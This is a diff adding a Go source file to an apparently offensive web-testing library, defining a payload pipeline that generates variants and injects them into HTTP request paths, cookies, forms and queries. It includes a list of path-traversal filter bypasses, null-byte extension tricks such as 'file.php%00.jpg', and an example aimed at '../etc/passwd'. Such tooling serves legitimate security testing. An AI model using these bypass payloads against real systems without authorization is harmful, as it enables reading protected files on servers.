@@ -0,0 +1,162 @@
+package encode
+
+import (
+	"strings"
+
+	"github.com/tarunKoyalwar/goseclibs/rawhttp"
+)
+
+/*
+Transformation Pipeline
+
+A Transform converts a payload into one or more payloads
+1. Encoders (URL ,Base64 etc) always return a single payload
+2. Variants (CaseVariants ,NullByteVariants ,TraversalVariants) return many
+
+Pipeline applies transforms in given order . Each transform is applied
+on every output of previous transform
+
+Ex:
+p := encode.NewPipeline(encode.TraversalVariants, encode.Encoder(encode.URL))
+p.Apply("../etc/passwd") => all traversal variants url encoded
+
+Note: Query Parameters of RawHttpRequest are always url encoded by
+GetRequest() . Do not URL encode payloads for QueryInsertion unless
+double encoding is required
+*/
+
+// Transform : Convert payload into one or more payloads
+type Transform func(payload string) []string
+
+// Encoder : Convert an encoder function into Transform
+func Encoder(fn func(string) string) Transform {
+	return func(payload string) []string {
+		return []string{fn(payload)}
+	}
+}
+
+// Pipeline : Ordered list of transformations
+type Pipeline []Transform
+
+// NewPipeline : New pipeline with given transforms
+func NewPipeline(transforms ...Transform) Pipeline {
+	return Pipeline(transforms)
+}
+
+// Apply : Apply all transforms on payload . Output is deduplicated and ordered
+func (p Pipeline) Apply(payload string) []string {
+	current := []string{payload}
+
+	for _, t := range p {
+		next := []string{}
+		for _, v := range current {
+			next = append(next, t(v)...)
+		}
+		current = next
+	}
+
+	return unique(current)
+}
+
+// ApplyAll : Apply pipeline on every payload of wordlist
+func (p Pipeline) ApplyAll(wordlist []string) []string {
+	out := []string{}
+	for _, v := range wordlist {
+		out = append(out, p.Apply(v)...)
+	}
+	return unique(out)
+}
+
+// Pipelines : Pipeline to use for each type of insertion point
+// Types without a pipeline use payloads as-is
+type Pipelines map[rawhttp.InsertionPointType]Pipeline
+
+// Inject : Inject every transformed payload at insertion point
+func (p Pipelines) Inject(req *rawhttp.RawHttpRequest, point rawhttp.InsertionPoint, payload string) ([]*rawhttp.RawHttpRequest, error) {
+	payloads := []string{payload}
+	if pipeline, ok := p[point.Type]; ok {
+		payloads = pipeline.Apply(payload)
+	}
+
+	requests := []*rawhttp.RawHttpRequest{}
+	for _, v := range payloads {
+		r, err := req.Inject(point, v)
+		if err != nil {
+			return requests, err
+		}
+		requests = append(requests, r)
+	}
+
+	return requests, nil
+}
+
+// DefaultPipelines : Encode payload depending on where it is injected
+// so that raw request remains valid
+func DefaultPipelines() Pipelines {
+	return Pipelines{
+		rawhttp.PathInsertion:   NewPipeline(Encoder(URL)),
+		rawhttp.CookieInsertion: NewPipeline(Encoder(URL)),
+		rawhttp.FormInsertion:   NewPipeline(), // url.Values encodes form body
+		rawhttp.QueryInsertion:  NewPipeline(), // GetRequest encodes query params
+	}
+}
+
+/* Variants */
+
+// CaseVariants : Original ,lower ,upper and alternate case
+func CaseVariants(payload string) []string {
+	return unique([]string{payload, Lower(payload), Upper(payload), AlternateCase(payload)})
+}
+
+// NullByteVariants : Null byte injected at end and before extension
+func NullByteVariants(payload string) []string {
+	variants := []string{payload, payload + "%00", payload + "\x00"}
+
+	// file.php => file.php%00.jpg style bypasses
+	if i := strings.LastIndex(payload, "."); i > 0 {
+		variants = append(variants, payload[:i]+"%00"+payload[i:])
+	}
+	variants = append(variants, payload+"%00.jpg")
+
+	return unique(variants)
+}
+
+// TraversalVariants : Common path traversal filter bypasses of ../
+func TraversalVariants(payload string) []string {
+	if !strings.Contains(payload, "../") {
+		return []string{payload}
+	}
+
+	replacements := []string{
+		"../",
+		"..\\",
+		"..%2f",
+		"%2e%2e/",
+		"%2e%2e%2f",
+		"..%252f",
+		"%252e%252e%252f",
+		"....//",
+		"..;/",
+		"..%c0%af",
+		"%uff0e%uff0e/",
+	}
+
+	variants := []string{}
+	for _, r := range replacements {
+		variants = append(variants, strings.ReplaceAll(payload, "../", r))
+	}
+
+	return unique(variants)
+}
+
+func unique(arr []string) []string {
+	seen := map[string]bool{}
+	out := []string{}
+	for _, v := range arr {
+		if !seen[v] {
+			seen[v] = true
+			out = append(out, v)
+		}
+	}
+	return out
+}